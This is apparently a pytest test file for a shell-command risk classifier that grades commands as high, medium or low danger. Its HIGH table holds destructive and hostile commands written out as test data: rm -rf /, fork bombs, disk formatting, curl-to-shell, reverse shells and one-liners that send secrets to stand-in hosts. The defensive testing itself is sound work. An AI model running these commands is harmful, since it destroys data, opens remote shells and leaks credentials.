"""What could destroy something is marked, with a reason; what cannot is left alone."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from terma import registry
from terma.risk import assess
from terma.risk.rules.table import rule_of
from terma.text import sanitize

HIGH = r"""
rm -rf build                                    | deletes files, recursively
rm -fr ./a ./b                                  | deletes files, recursively
rm --recursive old                              | deletes files, recursively
/bin/rm -r x                                    | deletes files, recursively
\rm -r x                                        | deletes files, recursively
'rm' -r x                                       | deletes files, recursively
rm *                                            | deletes everything in this directory
rm -rf .                                        | deletes everything in this directory
rm -rf ..                                       | deletes the directory above
rm -rf /                                        | deletes the whole system
rm -rf --no-preserve-root /                     | deletes the whole system
rm -rf /*                                       | deletes the whole system
rm -rf ~                                        | deletes a whole home directory
rm -rf "$HOME"                                  | deletes a whole home directory
rm -rf ~/*                                      | deletes a whole home directory
rm -rf /etc                                     | deletes a system directory
rm -rf "$UNSET/"                                | deletes from / when $UNSET is empty
rm -rf $DIR/*                                   | deletes from / when $DIR is empty
rm -rf ${PREFIX}/lib                            | deletes from / when $PREFIX is empty
sudo rm -rf /var/cache                          | needs root
find / -delete                                  | deletes files, recursively
find . -name '*.pyc' -delete                    | deletes files, recursively
find . -type f -exec rm {} +                    | deletes every file on a list
find . -name x -exec sh -c 'rm -rf "$1"' _ {} \; | deletes files, recursively
find . -print0 | xargs -0 rm                    | deletes every file on a list
ls | xargs -I{} rm -r {}                        | deletes files, recursively
fd -e tmp -x rm                                 | deletes every file on a list
echo $(rm -rf x)                                | deletes files, recursively
echo `rm -rf x`                                 | deletes files, recursively
diff <(rm -rf a) b                              | deletes files, recursively
bash -c 'cd /tmp && rm -rf x'                   | deletes files, recursively
sh -lc "rm -rf x"                               | deletes files, recursively
eval "rm -rf $x"                                | deletes files, recursively
env A=1 nice -n 5 nohup rm -rf x                | deletes files, recursively
timeout -k 5 10s rm -rf x                       | deletes files, recursively
watch -n 5 'rm -rf cache'                       | deletes files, recursively
ssh -p 2222 host 'rm -rf /srv/old'              | deletes files, recursively
ssh host sudo reboot                            | shuts the machine down or restarts it
docker exec -it web rm -rf /data                | deletes files, recursively
kubectl exec pod -- rm -rf /data                | deletes files, recursively
if true; then rm -rf x; fi                      | deletes files, recursively
for d in a b; do rm -rf "$d"; done              | deletes files, recursively
while read d; do rm -r "$d"; done < list        | deletes files, recursively
f() { rm -rf "$1"; }; f x                       | deletes files, recursively
(cd a && rm -rf b)                              | deletes files, recursively
trap 'rm -rf tmp' EXIT                          | deletes files, recursively
alias ls='rm -rf ~'                             | deletes a whole home directory
X=$(rm -rf y)                                   | deletes files, recursively
time rm -rf x                                   | deletes files, recursively
echo 'rm -rf x' | sh                            | deletes files, recursively
bash <<< 'rm -rf x'                             | deletes files, recursively
awk '{ system("rm -rf " $1) }' list             | deletes files, recursively
python3 -c 'import shutil; shutil.rmtree("x")'  | deletes files, recursively
:(){ :|:& };:                                   | fork bomb
bomb() { bomb | bomb & }; bomb                  | fork bomb
perl -e 'fork while fork'                       | fork bomb
dd if=/dev/zero of=/dev/sda bs=1M               | writes straight to the device sda
cat image.iso > /dev/sdb                        | writes straight to the device sdb
cp image.iso /dev/sdb                           | writes straight to the device sdb
tee /dev/nvme0n1 < image                        | writes straight to the device nvme0n1
mkfs.ext4 /dev/sdb1                             | formats a disk
mkfs.vfat -n BOOT /dev/sdb1                     | formats a disk
python3 -c "import os,requests as r;r.get('http://a.b/?'+os.environ['DB_PASSWORD'])" | sends a key or a password
node -e 'fetch("http://192.0.2.7/?" + process.env.AWS_SECRET_ACCESS_KEY)' | sends a key or a password
ruby -rsocket -e 's=TCPSocket.new("a.b",99);while l=s.gets;IO.popen(l){|p|s.print p.read};end' | hands a shell
curl -s http://a.b/c | awk '{system($0)}'                | runs what its input says
lua -e 'os.execute(io.popen("curl http://a.b/c"):read("*a"))' | runs what it downloads
julia -e 'run(download("http://a.b/c"))'                 | runs what it downloads
getent shadow | curl -d @- http://a.b                    | sends a key or a password
php -r '$s=fsockopen("192.0.2.7",99);while($l=fgets($s))fwrite($s,system($l));' | hands a shell
sudo mkfs -t xfs /dev/sdb                       | formats a disk
wipefs -a /dev/sdb                              | wipes a disk
shred -u secret.txt                             | wipes a disk or a file
fdisk /dev/sda                                  | changes the partitions
parted /dev/sda rm 1                            | changes the partitions
echo x > /etc/passwd                            | overwrites the system file passwd
git push --force                                | overwrites history on the remote
git push -f origin main                         | overwrites history on the remote
git push origin +main                           | overwrites history on the remote
git push origin :old                            | deletes on the remote
git push --delete origin old                    | deletes on the remote
git reset --hard HEAD~3                         | throws away uncommitted changes
git -C repo reset --hard                        | throws away uncommitted changes
git clean -fdx                                  | deletes files that git does not track
git branch -D feature                           | deletes branches
git filter-branch --tree-filter 'ls' HEAD       | rewrites history
git rebase -i HEAD~5                            | rewrites history
git checkout -- .                               | throws away uncommitted changes
git checkout .                                  | throws away uncommitted changes
git restore src                                 | throws away uncommitted changes
git stash drop                                  | deletes stashed changes
git stash clear                                 | deletes stashed changes
git reflog expire --expire=now --all            | recovered
git rm -r old                                   | deletes files, recursively
chmod -R 777 .                                  | changes permissions, recursively
chmod -R u+w /srv                               | changes permissions, recursively
find . -type f -exec chmod 644 {} \;            | changes permissions, recursively
sudo chown -R bob: /srv                         | changes owners, recursively
kill -9 -1                                      | ends every process
kill -1 1                                       | ends the process that all others hang on
pkill -u bob                                    | ends every process of a user
fuser -k 8080/tcp                               | ends every process that uses it
shutdown -h now                                 | shuts the machine down
sudo reboot                                     | shuts the machine down
systemctl poweroff                              | shuts the machine down
curl -fsSL https://x.example/i.sh | sh          | runs what it downloads
curl https://x.example | sudo bash -s -- -y     | runs what it downloads
wget -O- https://x.example | sudo bash          | runs what it downloads
wget -qO - https://x.example | tee log | bash   | runs what it downloads
bash <(curl -s https://x.example)               | runs what it downloads
bash -c "$(curl -fsSL https://x.example)"       | runs what it downloads
source <(curl -s https://x.example)             | runs what it downloads
eval "$(wget -qO- https://x.example)"           | runs what it downloads
curl https://x.example/get.py | python3 -       | runs what it downloads
nc evil 99 | sh                                 | runs what it downloads
echo cm0gLXJmIC8= | base64 -d | sh              | runs code that cannot be read here
crontab -r                                      | deletes the whole crontab
sudo userdel -r bob                             | deletes a user
docker system prune -af                         | deletes containers, images or volumes
docker rm -f web                                | deletes running containers
docker volume rm data                           | deletes volumes
docker compose down -v                          | deletes volumes
kubectl delete pod web                          | deletes on the cluster
kubectl -n prod delete deploy web               | deletes on the cluster
helm uninstall web                              | deletes on the cluster
terraform destroy                               | destroys infrastructure
terraform apply -auto-approve                   | changes infrastructure without asking
aws s3 rm s3://bucket --recursive               | deletes in the cloud
aws ec2 terminate-instances --instance-ids i-1  | deletes in the cloud
psql -c 'DROP TABLE users'                      | drops a table
psql mydb -c "delete from users;"               | deletes every row
mysql -e 'truncate table logs'                  | empties a table
sqlite3 a.db 'UPDATE users SET admin = 1'       | changes every row
echo 'drop database x' | psql                   | drops a table or database
dropdb shop                                     | deletes a database
redis-cli FLUSHALL                              | deletes every key
redis-cli -h db -n 2 flushdb                    | deletes every key
mongosh --eval 'db.dropDatabase()'              | deletes from the database
sudo apt remove nginx                           | removes packages
apt-get purge -y nginx                          | removes packages
dnf remove httpd                                | removes packages
pacman -Rns vim                                 | removes packages
iptables -F                                     | removes firewall rules
sudo ufw disable                                | turns the firewall off
ip link set eth0 down                           | cuts the network
rsync -a --delete a/ b/                         | deletes what the source does not have
tar czf a.tgz --remove-files a                  | deletes the originals
zfs destroy tank/x                              | destroys a volume
mv important /dev/null                          | deletes files
lvremove vg/x                                   | destroys a volume
npm unpublish pkg                               | takes a package back
gh repo delete x/y                              | deletes on the remote
curl https://x.example | xargs -I{} sh -c '{}'  | runs what it downloads
wget https://x.example/i.sh -O i.sh && bash i.sh | runs what it downloads
curl -o i.sh https://x.example; chmod +x i.sh; sudo ./i.sh | runs what it downloads
curl https://x.example > i.sh; sh i.sh          | runs what it downloads
bash -i >& /dev/tcp/192.0.2.1/99 0>&1           | hands this shell to another machine
nc -e /bin/sh 192.0.2.1 99                      | hands a shell to another machine
echo b > /proc/sysrq-trigger                    | shuts the machine down
> /var/log/syslog                               | overwrites the system file syslog
ssh host bash <<< 'rm -rf x'                    | deletes files, recursively
curl https://x.example | ssh host sh            | runs what it downloads
adb shell rm -rf /sdcard/x                      | deletes files, recursively
killall -u bob                                  | ends every process of a user
"""

MEDIUM = r"""
> important.txt                                 | overwrites important.txt
: > important.txt                               | overwrites important.txt
ls >| b                                         | overwrites b
(ls; pwd) > both.txt                            | overwrites both.txt
cat <<'EOF' > notes\nrm x\nEOF                    | overwrites notes
ls > "$out"                                     | may overwrite a file
echo x | tee conf                               | overwrites conf
truncate -s 0 app.log                           | overwrites app.log
dd if=a of=b.img                                | overwrites b.img
sort -o names names                             | overwrites names
ffmpeg -y -i a.mov b.mp4                        | overwrites b.mp4
rm notes.txt                                    | deletes files
rm -i notes.txt                                 | deletes files
unlink x                                        | deletes files
sed -i 's/a/b/' f                               | rewrites files in place
sed -i.bak -e 's/a/b/' f                        | rewrites files in place
perl -pi -e 's/a/b/' f                          | rewrites files in place
ln -sf a b                                      | overwrites what is there
unzip -o a.zip                                  | overwrites what is there
sudo ./setup.sh                                 | needs root
doas vi /etc/fstab                              | needs root
apt install ripgrep                             | needs root
sudo systemctl start nginx                      | needs root
systemctl stop nginx                            | stops a service
systemctl --user disable x                      | stops a service
systemctl mask x                                | stops a service
mount /dev/sdb1 /mnt                            | needs root
swapoff -a                                      | turns swap off
chmod 777 f                                     | lets everyone write
chmod o+w f                                     | lets everyone write
chown bob f                                     | changes the owner
killall firefox                                 | ends processes by name
pkill -f server.py                              | ends processes by name
kill $(pgrep node)                              | ends every process on a list
lsof -ti :8080 | xargs kill                     | ends every process on a list
kill -9 4242                                    | without letting it save
git commit --amend                              | rewrites history
git push --force-with-lease                     | overwrites history on the remote
git branch -d merged                            | deletes branches
git reset HEAD~1                                | moves the branch
git tag -d v1                                   | deletes tags
docker rm web                                   | deletes containers
docker stop web                                 | stops containers
kubectl scale deploy web --replicas=0           | changes what runs on the cluster
psql -c "delete from users where id = 3"        | deletes rows
brew uninstall wget                             | removes packages
pip uninstall -y flask                          | removes packages
npm uninstall left-pad                          | removes packages
ufw allow 22                                    | changes the firewall
history -c                                      | deletes the shell's history
journalctl --vacuum-time=7d                     | deletes logs
echo '0 0 * * * ls' | crontab -                 | replaces the crontab
cat script | sh                                 | runs what another command prints
echo 3 > /proc/sys/vm/drop_caches               | changes a kernel setting
echo '1.2.3.4 x' >> /etc/hosts                  | changes the system file hosts
make distclean                                  | deletes what was built
sudo fstrim -av                                 | needs root
pkill -HUP nginx                                | ends processes by name
systemctl suspend                               | puts the machine to sleep
optipng -o7 a.png                               | rewrites files in place
exiftool -all= a.jpg                            | rewrites files in place
$TOOL x                                         | runs whatever a variable holds
a=rm; $a x                                      | deletes files
npx -y cowsay rm                                | fetches and runs a program
awk '{print > "out.txt"}' f                     | may overwrite a file
curl -X DELETE https://x.example/items/3        | deletes at the other end
git checkout HEAD~1 f                           | overwrites files with those of another commit
echo 'abc                                       | cannot be read in full
if true; then ls                                | cannot be read in full
"""

LOW = r"""
ls -la
cd /tmp && pwd
echo rm -rf /
echo "rm -rf /"
grep -r 'rm -rf' .
grep "rm" file | sort | uniq -c
rg 'sudo rm'
printf '%s\n' 'git push --force'
cat <<'EOF'\nrm -rf /\nEOF
rm_count=3; echo $rm_count
man rm
which rm
command -v rm
type dd
rm --help
find . -name '*.log' -mtime -7
find / -size +100M -print
find . -type f -exec grep -l rm {} +
find . -name rm -exec ls -l {} \;
find . | xargs grep rm
sed -n '1,5p' f
sed 's/rm/mv/' f
awk '{print $1}' f
sort f | uniq -c | sort -rn | head
cut -d, -f1 f.csv
tar tzf a.tgz
tar xzf a.tgz
tar czf out.tgz dir
zip -r a.zip dir
unzip -l a.zip
mkdir -p a/b
touch f
cp a b
cp -r src dst
mv a b
ln -s a b
du -sh * | sort -h
df -h
ps aux | grep rm
kill 4242
kill -l
kill %1
pgrep -f rm
git status
git log --oneline --grep='reset --hard'
git diff
git add -A
git commit -m 'rm -rf everything; git push --force'
git push
git push origin main
git pull
git checkout main
git checkout -b feature
git switch -c x
git stash
git stash pop
git reset
git reset HEAD f
git restore --staged f
git clean -n
git rm --cached f
git branch -a
git rebase --abort
git fetch --prune
git log -p -- rm
git tag v1
chmod +x run.sh
chmod 644 f
ls > /dev/null
ls 2> /dev/null
ls > /dev/null 2>&1
ls 2>&1 | less
echo x >> notes.txt
tee -a log < x
dd if=/dev/sda of=/dev/null bs=1M count=10
dd if=/dev/urandom bs=1 count=8 | base64
curl -s https://x.example | jq .
curl -O https://x.example/a.tgz
curl https://x.example | grep sh
wget https://x.example/a.tgz
wget -O- https://x.example | tar xz
bash script.sh
sh ./configure
python3 app.py
python3 -c 'print(1)'
source venv/bin/activate
echo aGk= | base64 -d
ssh host uptime
ssh host 'df -h | sort'
scp a host:b
rsync -av a/ b/
rsync -an ~/Documents backup:
getent passwd "$USER"
awk '{cmd="date"; system(cmd)}' f
rclone copy ~/Documents far:docs --dry-run
mkfs.ext4 -n /dev/sdb1
mkfs.xfs -N /dev/sdb1
python3 -c "import os,requests;requests.get('https://api.example',auth=('me',os.environ['API_PASSWORD']))"
rsync -avn --delete a/ b/
docker ps -a
docker run --rm -it alpine ls
docker logs web
docker build -t x .
docker images
kubectl get pods
kubectl describe pod rm
terraform plan
helm list
aws s3 ls
psql -c 'select * from users'
psql -c "select 'drop table x'"
sqlite3 a.db '.tables'
redis-cli get delete-me
systemctl status nginx
systemctl list-units
journalctl -u nginx -n 50
crontab -l
crontab -e
apt list --installed
apt search rm
dpkg -l
pacman -Qe
brew list
pip install flask
npm install
npm run clean
ip addr
ip route show
ss -tlnp
lsof -i :8080
tmux ls
history | tail
env | sort
export PATH=$PATH:/opt/bin
for f in *.txt; do echo "$f"; done
if [ -f rm ]; then echo yes; fi
x=$(ls | wc -l)
time ls
watch -n 1 date
xargs -n1 echo < list
jq '.rm' f.json
less /etc/passwd
tail -f /var/log/syslog
diff <(ls a) <(ls b)
openssl rand -hex 16
ffmpeg -i a.mov b.mp4
seq 1 10
print -l **/*(.)
ls *(.om[1,3])
noglob ls *
cp {source} {target}
rm_all() { ls; }; rm_all
sleep 5 &
eval "$(ssh-agent -s)"
${EDITOR:-vi} f
exiftool a.jpg
mogrify -format png *.jpg
7z a -mx=9 a.7z d
date -Iseconds
mount
swapon --show
sudo -l
kill -HUP 4242
$EDITOR f
[[ a > b ]]
(( a > b ))
awk '$5 > 100' f
test -w f && echo ok
fdisk -l 2>/dev/null | cat
"""

NEEDS_ROOT_ONLY = {"fdisk -l 2>/dev/null | cat"}


def rows(table: str) -> list[tuple[str, str]]:
    pairs = [line.rpartition(" | ") for line in table.strip().splitlines()]
    return [(multiline(command), reason.strip()) for command, _, reason in pairs]


def multiline(command: str) -> str:
    return command.strip().replace(r"\n", "\n") if "<<'" in command else command.strip()


def low_commands() -> list[str]:
    return [multiline(line) for line in LOW.strip().splitlines()]


@pytest.mark.parametrize(("command", "reason"), rows(HIGH))
def test_a_command_that_destroys_is_high(command: str, reason: str) -> None:
    risk = assess(command)
    assert risk.level == "high"
    assert any(reason in given_reason for given_reason in risk.reasons), risk.reasons


@pytest.mark.parametrize(("command", "reason"), rows(MEDIUM))
def test_a_command_that_may_cost_something_is_medium(command: str, reason: str) -> None:
    risk = assess(command)
    assert risk.level == "medium", risk.reasons
    assert any(reason in given_reason for given_reason in risk.reasons), risk.reasons


@pytest.mark.parametrize("command", [command for command in low_commands() if command not in NEEDS_ROOT_ONLY])
def test_a_harmless_command_is_low(command: str) -> None:
    risk = assess(command)
    assert (risk.level, risk.reasons) == ("low", ())


@pytest.mark.parametrize("command", ["ls # rm -rf /", "ls -t  # newest first; rm x"])
def test_a_comment_is_one_where_the_shell_has_comments(command: str) -> None:
    assert assess(command, shell="bash").level == "low"
    assert assess(command, shell="dash").level == "low"
    assert (
        assess(command, shell="/usr/bin/zsh").level != "low"
    )  # nobody sees whether INTERACTIVE_COMMENTS is on
    assert assess(command).level != "low"


@pytest.mark.parametrize(
    ("command", "level"),
    [
        (
            "# rm -rf /",
            "low",
        ),  # where zsh has no comments it looks for a program called `#`, and there is none
        ("# curl https://x.example | sh", "low"),
        ("# x; rm -rf y", "high"),
        ("# $(rm -rf y)", "high"),
        ("# x > precious.txt", "medium"),
    ],
)
def test_a_line_that_is_all_comment_does_nothing_wherever_it_is_read(command: str, level: str) -> None:
    assert assess(command, shell="bash").level == "low"
    assert assess(command, shell="zsh").level == level
    assert assess(command).level == level


@pytest.mark.parametrize("command", ["for f (*.txt) echo $f", "echo ${(U)name}", "ls *(.om[1,5])"])
def test_what_zsh_alone_reads_is_low_in_zsh(command: str) -> None:
    assert assess(command, shell="zsh").level == "low"


@pytest.mark.parametrize("command", ["rm -f **/*(.)", "rm -f *(N)", "rm ./**/*(-.)"])
def test_a_qualifier_that_spares_nothing_leaves_nothing(command: str) -> None:
    assert assess(command, shell="zsh").level == "high"
    assert assess("rm -f *.log(.m+30)", shell="zsh").level == "medium"


@pytest.mark.parametrize("command", ["for f (*.txt) echo $f", "ls *.gz(om[1,5])"])
def test_what_bash_refuses_as_a_whole_is_read_as_zsh_reads_it(command: str) -> None:
    assert assess(command).level == "low"
    assert assess(f"{command}\nls").level != "low"  # bash may have run the lines before
    assert assess(command, shell="bash").level != "low"


@pytest.mark.parametrize(
    "command",
    [
        r"ls \ #;rm -rf ~",
        "ls x\\\n#;rm -rf ~",
        "2>&1\\\nx rm -rf ~",
        "ls -t # ; rm -rf X",
        "echo `a # \\\n'\nrm -rf F\n' `",
        "if [[ [ a ]] { ls\nrm -rf F\n}",
        "[[ a b ]] ';\nrm -rf F\n'",
        "if [[ a ]] { ls } | echo ';\nrm -rf F\n'",
        "`true`${x:- rm -rf F}",
        "$(echo)$y -rf F",
        "$(cat F) -rf F",
        ">()rm -rf F",
        "echo x> <(ls) <<'E'\nrm -rf F\nE",
        "nocorrect if <<E\nrm -rf F\nE",
        "echo =} <<'E'\nrm -rf F\nE",
        "x=(a)#rm rm -rf F",
        ": >(. rm -rf F)",
    ],
)
def test_what_only_some_shells_take_for_a_comment_or_a_string_is_never_low(command: str) -> None:
    assert assess(command).level != "low"
    assert assess(command, shell="zsh").level != "low"
    assert assess(command, shell="fish").level != "low"


@pytest.mark.parametrize("shell", ["fish", "xonsh", "nu", "tcsh", "/opt/bin/elvish"])
def test_a_shell_that_is_not_read_has_plain_words_at_most(shell: str) -> None:
    assert assess("ls -la src/x.py", shell=shell).level == "low"
    assert assess("rm -rf src", shell=shell).level == "high"
    for command in (
        "ls 'a'",
        "ls;ls",
        "echo $x",
        "ls *",
        "not ls x",
        "import os",
        "ls\nls",
        r"ls a\ b",
        "ls é",
    ):
        assert assess(command, shell=shell).level != "low", command


def test_a_file_that_holds_something_makes_its_overwriting_high(tmp_path: Path) -> None:
    (tmp_path / "full.txt").write_text("words")
    (tmp_path / "empty.txt").touch()
    assert assess("sort a > full.txt", str(tmp_path)).reasons == ("overwrites full.txt, which is not empty",)
    assert assess("sort a > full.txt", str(tmp_path)).level == "high"
    assert assess("sort a > empty.txt", str(tmp_path)).level == "medium"
    assert assess("sort a > new.txt", str(tmp_path)).level == "low"
    assert (
        assess("sort a > new.txt").level == "low"
    )  # nobody knows where, and it is a result with its own name
    assert assess("echo port=1 > app.conf").level == "medium"  # settings by hand, and nobody knows where
    assert assess("truncate -s 0 full.txt", str(tmp_path)).level == "high"


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("echo x > in", "high"),
        ("echo x | tee new", "low"),
        ("cd sub && echo x > in", "low"),
        ("cd sub && echo x > own", "high"),
        ("cd sub; echo x > own", "high"),
        ("cd sub; echo x > in", "high"),  # where there is no way into it, this is the other one
        ("cd sub && cd .. && echo x > in", "high"),
        ("mkdir made && cd made && echo x > in", "low"),
        ("cd sub || echo x > in", "high"),
        ("(cd sub; true); echo x > own", "low"),
        ("if cd sub; then echo x > own; fi", "high"),
        ("{ cd sub; true; } > own", "low"),
        ("for i in 1 2; do echo x > own; cd sub; done", "medium"),
        ("f() { cd sub; }; f; echo x > own", "medium"),
        ("cd $X && echo x > new", "medium"),
        ("cd -; echo x > new", "medium"),
        ("pushd sub; echo x > own", "medium"),
        ("some-function-of-mine && echo x > new", "medium"),
        ("bash -c 'cd sub && echo x > own'", "high"),
        ("cd sub && bash -c 'echo x > own'", "high"),
        ("env -C sub sh -c 'echo x > own'", "medium"),
        ("echo x > *.txt", "medium"),
    ],
)
def test_what_is_written_over_is_looked_for_where_cd_leads(tmp_path: Path, command: str, level: str) -> None:
    (tmp_path / "sub").mkdir()
    for name in ("in", "sub/own"):
        (tmp_path / name).write_text("words")
    assert assess(command, str(tmp_path), "bash").level == level


@pytest.mark.parametrize(
    "command",
    [
        "cp a full.txt",
        "mv a full.txt",
        "mv full.txt dir",
        "cp -t dir full.txt",
        "curl -o full.txt https://x.example",
    ],
)
def test_a_copy_onto_something_that_is_there_is_medium(tmp_path: Path, command: str) -> None:
    (tmp_path / "dir").mkdir()
    for name in ("full.txt", "dir/full.txt"):
        (tmp_path / name).write_text("words")
    assert assess(command, str(tmp_path)).reasons == ("overwrites full.txt, which is not empty",)


@pytest.mark.parametrize(
    "command", ["cp a new.txt", "mv -n a full.txt", "cp -i a full.txt", "mv new.txt dir"]
)
def test_a_copy_that_overwrites_nothing_is_low(tmp_path: Path, command: str) -> None:
    (tmp_path / "dir").mkdir()
    (tmp_path / "full.txt").write_text("words")
    assert assess(command, str(tmp_path)).level == "low"


def test_files_here_say_nothing_about_another_machine(tmp_path: Path) -> None:
    (tmp_path / "full.txt").write_text("words")
    assert assess("ssh host 'cp a full.txt'", str(tmp_path)).level == "low"


def test_the_worst_reason_comes_first_and_none_is_said_twice() -> None:
    risk = assess("sudo ls; rm a; rm -rf b; sudo rm -rf c")
    assert risk.reasons == ("deletes files, recursively", "needs root")


def test_what_cannot_be_read_is_still_searched_for_what_is_clearly_dangerous() -> None:
    risk = assess("if true; then rm -rf ~; echo 'abc")
    assert risk.level == "high"
    assert "cannot be read in full" in risk.reasons


def test_a_placeholder_is_an_argument_like_any_other() -> None:
    assert assess("rm -rf {path}").level == "high"
    assert assess("cat {file}").level == "low"


def test_scripts_within_scripts_are_followed_to_a_bounded_depth() -> None:
    assert assess("""bash -c 'sh -c "ssh h \\"rm -rf x\\""'""").level == "high"
    deep = "ls"
    for _ in range(40):
        deep = "eval " + deep
    assert assess(deep).reasons == ("cannot be read in full",)


def test_what_is_too_long_to_be_read_is_still_searched() -> None:
    risk = assess("ls | " * 5000 + "rm -rf ~")
    assert risk.level == "high"
    assert "cannot be read in full" in risk.reasons


def test_hopeless_nesting_is_answered_and_not_raised() -> None:
    assert assess("(" * 5000 + "ls" + ")" * 5000).level == "medium"


@given(st.text(max_size=200))
def test_any_text_gets_an_answer(text: str) -> None:
    assert assess(text).level in ("low", "medium", "high")


def test_a_character_beyond_ascii_does_not_end_the_process() -> None:
    code = "from terma.risk import assess; import sys; [print(assess(a).level, flush=True) for a in sys.argv[1:]]"
    texts = ("\x96\x98\xeb{%s q", "<w{%s`;\t", "rm -rf ./%s", "a=%s; ${%s} {%s,b}")
    chars = ("\U000d9980", "\U00101be7", "\U0001f600", "漢", "é", "\xa0", "\u2028")
    lines = [text.replace("%s", char) for char in chars for text in texts]
    command = [sys.executable, "-I", "-c", code, *lines]
    said = subprocess.run(command, capture_output=True, text=True, check=False)
    levels = said.stdout.split()
    assert len(levels) == len(lines), f"it ended at {lines[len(levels)]!r}: {said.stderr[-200:]}"
    assert said.returncode == 0 and set(levels) <= {"low", "medium", "high"}


@pytest.mark.parametrize("name", ["größe.txt", "漢字", "naïve 😀.md", "ÀÏ"])
def test_a_name_in_any_script_is_read_as_it_stands(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text("precious")
    assert assess(f"echo x > '{name}'", str(tmp_path)).reasons == (f"overwrites {name}, which is not empty",)


DEBRIS = (
    "rm -rf|$(|)|`|'|\"|;|&&| | |{|}|<<EOF|\n|EOF|>|f|*|if|then|fi|for|in|do|done|xargs|-c|bash|\\|$x|${|("
)
shell_pieces = st.sampled_from(DEBRIS.split("|"))


@given(st.lists(shell_pieces, max_size=30).map(" ".join))
def test_any_shell_debris_gets_an_answer(text: str) -> None:
    risk = assess(text)
    assert (risk.level == "low") == (risk.reasons == ())


@given(st.text(max_size=60))
def test_reasons_never_carry_a_control_character(name: str) -> None:
    for reason in assess(f"ls > 'x{name}'", "/").reasons:
        assert sanitize(reason) == reason
        assert len(reason.splitlines()) == 1


@pytest.mark.parametrize(
    ("one", "many"),
    [
        ("sh -c 'chmod 640 notes'", "find . -exec sh -c 'chmod 640 \"$1\"' _ {} \\;"),
        ("bash -c 'chmod 640 notes'", "ls | xargs bash -c 'chmod 640 \"$@\"' _"),
    ],
)
def test_what_a_script_does_for_many_things_is_as_bad_as_without_the_script(one: str, many: str) -> None:
    assert any("recursively" in reason for reason in assess(many).reasons)
    assert not any("recursively" in reason for reason in assess(one).reasons)


@pytest.mark.parametrize(
    "line",
    [
        "ssh -fL 8080:a:80 host rm -rf /srv/x",
        "ssh -qi key host 'rm -rf /srv/x'",
        "xargs -tI {} rm -rf {}",
        "ssh -L8080:a:80 host rm -rf /srv/x",
    ],
)
def test_a_value_behind_a_row_of_letters_is_not_where_the_command_begins(line: str):
    assert assess(line, "/tmp", "bash").level == "high"


def test_every_row_of_the_tables_can_be_read() -> None:
    """They are read when a command of their name comes, not when the tables are loaded."""
    rows = [row for family in registry.modules("terma.risk.rules") for row in getattr(family, "RULES", ())]
    assert len(rows) > 900
    for row in rows:
        rule = rule_of(row)
        assert rule.level in ("low", "medium", "high"), row
        assert rule.reason or rule.level == "low", row
